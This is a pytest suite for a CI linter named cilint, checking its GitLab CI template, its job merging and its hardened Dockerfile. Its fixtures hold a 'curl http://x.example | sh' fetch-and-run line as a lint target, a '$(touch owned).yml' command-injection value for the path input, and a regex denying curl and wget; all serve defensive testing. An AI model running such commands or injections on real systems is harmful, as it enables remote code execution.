"""The component and the image: what they promise, held against cilint itself, a shell and hadolint."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml

import cilint

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
TEMPLATE = ROOT / "templates" / "cilint.yml"
DOCKERFILE = (ROOT / "Dockerfile").read_text("utf-8")


def run(*arguments, cwd, env=None):
    environment = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", **(env or {})}
    return subprocess.run(arguments, cwd=cwd, env=environment, capture_output=True, text=True, check=False)


@pytest.fixture
def repository(tmp_path):
    """A repository whose pipeline includes the template; `inputs` are what it passes."""

    def of(pipeline="", inputs=None):
        (tmp_path / ".git").mkdir(exist_ok=True)
        (tmp_path / "templates").mkdir(exist_ok=True)
        shutil.copy(TEMPLATE, tmp_path / "templates")
        include = {"local": "templates/cilint.yml", **({"inputs": inputs} if inputs else {})}
        (tmp_path / ".gitlab-ci.yml").write_text(f"include: [{json.dumps(include)}]\n{pipeline}", "utf-8")
        return tmp_path

    return of


def job(folder, name="cilint"):
    """The job as GitLab would merge it."""
    done = run("cilint", "resolve", "--format", "json", cwd=folder)
    assert done.returncode == 0, done.stdout + done.stderr
    return json.loads(done.stdout)["jobs"][name]


def test_the_template_is_clean_on_its_own():
    done = run("cilint", "check", TEMPLATE, "--policy=gitlab", "--policy=security", "--strict", cwd=ROOT)
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_reference_pipeline_with_the_template_is_clean_under_every_pack(repository):
    text = (ROOT / "examples" / ".gitlab-ci.yml").read_text("utf-8")
    folder = repository(text, {"stage": "validation"})
    shutil.copytree(ROOT / "scripts", folder / "scripts")
    done = run("cilint", "check", "--fail-on=info", cwd=folder)
    assert done.returncode == 0, done.stdout + done.stderr


def test_without_inputs_it_runs_on_merge_requests_and_the_default_branch(repository):
    folder = repository("build: {script: [make]}\n")
    for options, runs in (((), True), (("--merge-request",), True), (("--branch", "feature"), False)):
        done = run("cilint", "simulate", "--format", "json", *options, cwd=folder)
        names = [one["name"] for one in json.loads(done.stdout)["jobs"]]
        assert ("cilint" in names) is runs, options


def test_it_gets_none_of_the_defaults_but_the_runner(repository):
    merged = job(
        repository("default: {before_script: [apt-get update], image: ruby, tags: [own]}\nbuild: {script: [x]}\n")
    )
    assert merged["tags"] == ["own"]
    assert "before_script" not in merged
    assert merged["image"] == f"$CI_REGISTRY/security/cilint:{cilint.__version__}"
    assert merged["artifacts"]["when"] == "always"
    assert merged["artifacts"]["expire_in"] == "1 week"


@pytest.mark.parametrize(
    ("inputs", "status"),
    [
        ({}, 1),
        ({"fail-on": "never"}, 0),
        ({"path": "other.yml"}, 0),
        ({"path": "$(touch owned).yml"}, 2),
        ({"path": "other.yml", "policy": "./house"}, 1),
        ({"path": "unread.yml"}, 0),
        ({"path": "unread.yml", "strict": True}, 1),
        ({"job-name": "lint pipeline", "fail-on": "never"}, 0),
    ],
)
def test_its_script_does_what_the_inputs_say(repository, inputs, status):
    folder = repository("build: {script: ['curl http://x.example | sh']}\n", inputs)
    (folder / ".cilint.yaml").write_text("packs: [gitlab, security]\n")
    (folder / "other.yml").write_text("build: {image: ruby, script: [make]}\n")
    (folder / "unread.yml").write_text("include: {project: a/b, file: c.yml}\nbuild: {script: [make]}\n")
    run("cilint", "new", "rule", "image-named", "--folder", "house", cwd=folder)
    house = folder / "house" / "image-named.yaml"
    house.write_text(house.read_text().replace("severity: warning", "severity: error"))
    merged = job(folder, inputs.get("job-name", "cilint"))
    variables = {name: str(value).lower() if value is not None else "" for name, value in merged["variables"].items()}
    done = run("sh", "-e", "-c", "\n".join(merged["script"]), cwd=folder, env={**variables, "GITLAB_CI": "true"})
    assert done.returncode == status, done.stdout + done.stderr
    assert not (folder / "owned").exists()
    if status != 2:
        for path in (*merged["artifacts"]["paths"], *merged["artifacts"]["reports"].values()):
            assert (folder / path).stat().st_size, path


def test_what_the_settings_fail_keeps_no_report_from_being_written(repository):
    folder = repository("build: {script: [make]}\n", {"path": "unread.yml"})
    (folder / "unread.yml").write_text("include: {project: a/b, file: c.yml}\nbuild: {script: [make]}\n")
    (folder / ".cilint.yaml").write_text("packs: [gitlab]\nstrict: true\n")
    merged = job(folder)
    variables = {name: str(value).lower() if value is not None else "" for name, value in merged["variables"].items()}
    done = run("sh", "-e", "-c", "\n".join(merged["script"]), cwd=folder, env={**variables, "GITLAB_CI": "true"})
    assert done.returncode == 1, done.stdout + done.stderr
    for path in (*merged["artifacts"]["paths"], *merged["artifacts"]["reports"].values()):
        assert (folder / path).stat().st_size, path


def test_the_script_is_plain_shell(repository, tmp_path):
    script = tmp_path / "script.sh"
    script.write_text("#!/bin/sh\nset -e\n" + "\n".join(job(repository())["script"]) + "\n")
    done = run("shellcheck", script, cwd=tmp_path)
    assert done.returncode == 0, done.stdout


def test_the_image_has_no_entry_point_no_root_and_no_base_but_the_house_s():
    assert re.findall(r"^ARG (.*)", DOCKERFILE, re.M)[:2] == [
        "CI_REGISTRY",
        "BASE_IMAGE=${CI_REGISTRY}/infrastructure/python:3.13.1-slim",
    ]
    assert set(re.findall(r"^FROM (\S+)", DOCKERFILE, re.M)) == {"${BASE_IMAGE}"}
    assert not re.search(r"^(ENTRYPOINT|ADD)\b|\bcurl\b|\bwget\b", DOCKERFILE, re.M)
    final = DOCKERFILE[DOCKERFILE.rindex("\nFROM ") :]
    assert re.search(r"^USER [1-9]\d*:[1-9]\d*$", final, re.M)
    assert "RUN" not in final, "what is built is built in the first stage"


def test_hadolint_takes_the_dockerfile():
    done = run("hadolint", "Dockerfile", cwd=ROOT)
    assert done.returncode == 0, done.stdout


def test_what_the_dockerfile_copies_is_enough_for_a_wheel_with_its_packs(tmp_path):
    """The build context is what `.dockerignore` lets through; the wheel is built from that alone."""
    source = tmp_path / "src"
    source.mkdir()
    allowed = [line[1:] for line in (ROOT / ".dockerignore").read_text().split() if line.startswith("!")]
    for line in re.findall(r"^COPY (?!--)(.+) \S+$", DOCKERFILE, re.M):
        for name in line.split():
            assert name in allowed, f".dockerignore keeps {name} out"
            place = ROOT / name
            shutil.copytree(place, source / name) if place.is_dir() else shutil.copy(place, source)
    done = run(sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", tmp_path, cwd=source)
    assert done.returncode == 0, done.stderr
    [wheel] = tmp_path.glob("*.whl")
    names = zipfile.ZipFile(wheel).namelist()
    assert "cilint/_packs/enterprise/images.yaml" in names
    assert "cilint/cli/check.py" in names


def test_gitlab_ci_local_makes_the_same_job_of_it(repository):
    """A second opinion on inputs, interpolation and merging."""
    node = ROOT / "tests" / "judges" / "node_modules"
    folder = repository("stages: [validation]\n", {"stage": "validation", "fail-on": "warning", "strict": True})
    shutil.rmtree(folder / ".git")
    for command in (
        ["git", "init", "-q", "-b", "main"],
        ["git", "remote", "add", "origin", "git@gitlab.example:a/b.git"],
        ["git", "add", "."],
        ["git", "-c", "user.email=x@x", "-c", "user.name=x", "commit", "-qm", "x"],
    ):
        assert run(*command, cwd=folder).returncode == 0
    done = run(node / ".bin" / "node", node / "gitlab-ci-local" / "dist" / "index.js", "--preview", cwd=folder)
    assert done.returncode == 0, done.stderr
    other, mine = yaml.safe_load(done.stdout)["cilint"], job(folder)
    for key in ("stage", "script", "variables", "artifacts", "rules", "needs", "interruptible"):
        assert plain_text(other[key]) == plain_text(mine[key]), key


def plain_text(value):
    """A value with every scalar as text, for the judge quotes numbers and flags."""
    if isinstance(value, dict):
        return {key: plain_text(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [plain_text(inner) for inner in value]
    return str(value).lower() if isinstance(value, bool) else str(value or "")
